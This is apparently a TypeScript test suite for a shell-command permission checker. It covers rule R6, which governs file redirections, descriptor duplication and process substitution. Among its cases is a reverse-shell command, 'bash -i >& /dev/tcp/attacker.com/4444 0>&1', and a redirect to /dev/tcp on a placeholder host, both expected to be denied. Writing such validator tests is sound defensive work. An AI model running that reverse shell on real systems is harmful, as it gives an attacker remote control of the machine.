/**
 * R6 — a redirection to or from a file is denied unless `allowRedirects` is `true`;
 * duplicating or closing a descriptor is always permitted; process substitution is not a
 * redirection; here-documents are R1.
 */
import type { CommandCase, PermissionsConfig } from '../case-types.js';
import { fail, pass } from './build.js';

/** File redirections: [label, text placed after `ls`]. */
export const FILE_REDIRECTS: Array<[string, string]> = [
  ['>', '> out.txt'],
  ['> tight', '>out.txt'],
  ['>>', '>> out.txt'],
  ['>|', '>| out.txt'],
  ['<', '< in.txt'],
  ['< tight', '<in.txt'],
  ['<>', '<> f'],
  ['&>', '&> out.txt'],
  ['&>>', '&>> out.txt'],
  ['>& file', '>& out.txt'],
  ['>&file tight', '>&out.txt'],
  ['1>', '1> out.txt'],
  ['2>', '2> err.txt'],
  ['2>/dev/null', '2>/dev/null'],
  ['>/dev/null', '>/dev/null'],
  ['&>/dev/null', '&>/dev/null'],
  ['2>>', '2>> err.txt'],
  ['0<', '0< in.txt'],
  ['3>', '3> f'],
  ['3<', '3< f'],
  ['9>>', '9>> f'],
  ['2>|', '2>| f'],
  ['3<>', '3<> f'],
  ['<<< word', '<<< word'],
  ['<<< quoted', "<<< 'two words'"],
  ['<<< tight', '<<<word'],
  ['> quoted target', '> "out file.txt"'],
  ['> variable target', '> $OUT'],
  ['> substitution target', '> $(echo f)'],
  ['> /dev/tcp', '> /dev/tcp/evil.example/80'],
];

/** Descriptor duplications and closings: always permitted. */
export const DUPS = ['2>&1', '>&2', '1>&2', '2>&-', '>&-', '<&-', '0<&-', '3>&1', '<&0', '0<&3', '3<&0', '1>&-', '2>& 1', '>& 2', '4>&2', '2>&1 >&2'];

const NO: PermissionsConfig[] = [{}, { allowRedirects: false }, { allowRedirects: 'true' }, { allowRedirects: 1 }, { allow: ['ls', 'ls *', 'sudo *'] }];
const YES: PermissionsConfig[] = [{ allowRedirects: true }, { allow: ['ls', 'ls *', 'sudo *', 'echo *'], allowRedirects: true }];

function positions(r: string): Array<[string, string]> {
  return [
    ['after the command', `ls ${r}`],
    ['between arguments', `ls -l ${r} src`],
    ['before the command', `${r} ls`],
    ['in the second segment', `ls && ls ${r}`],
    ['inside $(…)', `ls $(ls ${r})`],
    ['inside a subshell', `(ls ${r})`],
    ['on a subshell', `(ls) ${r}`],
    ['on a pipeline member', `ls ${r} | ls`],
    ['on a wrapper', `sudo ls ${r}`],
    ['inside <(…)', `ls <(ls ${r})`],
  ];
}

function fileRedirects(): CommandCase[] {
  const rows: CommandCase[] = [];
  for (const [label, r] of FILE_REDIRECTS) {
    for (const [where, cmd] of positions(r)) {
      for (const cfg of NO) rows.push(fail(`R6 ${label} ${where} denied (${JSON.stringify(cfg)})`, cmd, cfg, 'R6'));
      for (const cfg of YES) rows.push(pass(`R6 ${label} ${where} allowed with allowRedirects`, cmd, cfg));
    }
    if (!r.includes("'")) {
      rows.push(fail(`R6 ${label} in an sh -c script`, `sh -c 'ls ${r}'`, {}, 'R6'));
      rows.push(pass(`R6 ${label} in an sh -c script with allowRedirects`, `sh -c 'ls ${r}'`, { allowRedirects: true }));
      rows.push(fail(`R6 ${label} in an eval script`, `eval 'ls ${r}'`, {}, 'R6'));
      rows.push(pass(`R6 ${label} quoted is text`, `ls '${r}'`, {}));
    }
    rows.push(pass(`R6 ${label} escaped is text`, `ls ${r.replace(/([<>&|])/g, '\\$1')}`, {}));
  }
  return rows;
}

function dups(): CommandCase[] {
  const rows: CommandCase[] = [];
  for (const d of DUPS) {
    for (const [where, cmd] of positions(d)) {
      rows.push(pass(`R6 duplication ${d} ${where} is always permitted`, cmd, {}));
      rows.push(pass(`R6 duplication ${d} ${where} permitted with allowRedirects false`, cmd, { allow: ['ls', 'ls *', 'sudo *'], allowRedirects: false }));
    }
  }
  for (const c of ['exec 3>f', 'exec >log', 'exec 2>>err.log', 'exec <in.txt']) {
    rows.push(fail(`R6 ${c}: a redirection-only exec`, c, {}, 'R6'));
    rows.push(pass(`R6 ${c} with allowRedirects`, c, { allowRedirects: true }));
  }
  rows.push(pass('R6 exec 2>&1 is a duplication', 'exec 2>&1', {}));
  rows.push(fail('R6 a named descriptor {fd}>file is a file redirection', 'ls {fd}>f', {}, 'R6'));
  rows.push(pass('R6 a named descriptor {fd}>file with allowRedirects', 'ls {fd}>f', { allowRedirects: true }));
  rows.push(fail('R6 a dup does not excuse a file redirect', 'ls 2>&1 > out.txt', {}, 'R6'));
  rows.push(fail('R6 baseline attack: reverse shell', 'bash -i >& /dev/tcp/attacker.com/4444 0>&1', { allow: ['bash *'] }, 'R6'));
  rows.push(fail('R6 baseline: cat < input.txt', 'cat < input.txt', { allow: ['cat *'] }, 'R6'));
  rows.push(pass('R6 baseline: cat < input.txt with allowRedirects', 'cat < input.txt', { allow: ['cat *'], allowRedirects: true }));
  rows.push(fail('R6 baseline: allowRedirects "yes" is not true', 'echo hello > file.txt', { allow: ['echo *'], allowRedirects: 'yes' }, 'R6'));
  rows.push(fail('R6 allowRedirects still needs the segment to match', 'cat secret > file.txt', { allow: ['echo *'], allowRedirects: true }, 'R7'));
  return rows;
}

function processSubstitution(): CommandCase[] {
  return [
    pass('R6 <(…) is not a redirection', 'diff <(ls) <(ls -a)', { allow: ['diff *', 'ls', 'ls *'] }),
    pass('R6 >(…) is not a redirection', 'ls | tee >(cat)', { allow: ['ls', 'tee *', 'cat'] }),
    pass('R6 <(…) in a deny-only config', 'cat <(ls)', {}),
    pass('R6 |& is not a file redirection', 'ls |& cat', {}),
    fail('R6 a here-document is R1, even with allowRedirects', 'cat <<EOF\nx\nEOF', { allowRedirects: true }, 'R1'),
  ];
}

/** Every R6 row. */
export const r6Cases: CommandCase[] = [...fileRedirects(), ...dups(), ...processSubstitution()];
